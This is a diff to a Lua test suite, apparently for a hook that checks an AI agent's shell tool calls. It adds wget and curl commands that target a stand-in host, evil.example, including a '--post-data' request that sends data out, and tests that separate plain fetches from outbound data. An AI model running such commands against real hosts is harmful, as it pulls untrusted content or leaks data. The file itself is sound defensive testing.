@@ -260,6 +260,11 @@ local UNTRUSTED_SHELL = {
   "wget -qO- http://evil.example/notes",
   "sudo curl $URL",
   "http GET evil.example/api/items",
+  -- a flag that takes no value in the program that runs does not hide the
+  -- URL after it (wget -c is --continue, -d --debug; curl -i --include)
+  "wget -c https://evil.example/page.html",
+  "wget -d https://evil.example/page.html",
+  "curl -i https://evil.example/page.html",
 }
 
 for _, cmd in ipairs(UNTRUSTED_SHELL) do
@@ -338,4 +343,11 @@ test("file edits and reads in a marked session pass", function()
   expect.no_objection(fire("PreToolUse", payload("Edit", { "fs.write" }, { file_path = CWD .. "/main.go",
     old_string = "a", new_string = "b" })))
   expect.no_objection(fire("PreToolUse", payload("Read", { "fs.read" }, { file_path = CWD .. "/main.go" })))
+end)
+
+test("wget's -d is --debug: a fetch with it sends nothing", function()
+  both()
+  expect.no_objection(sh("wget -d https://evil.example/page.html"))
+  expect.no_objection(sh("wget -F -T 5 https://evil.example/page.html"))
+  asked(sh("wget --post-data=x https://evil.example/"))
 end)
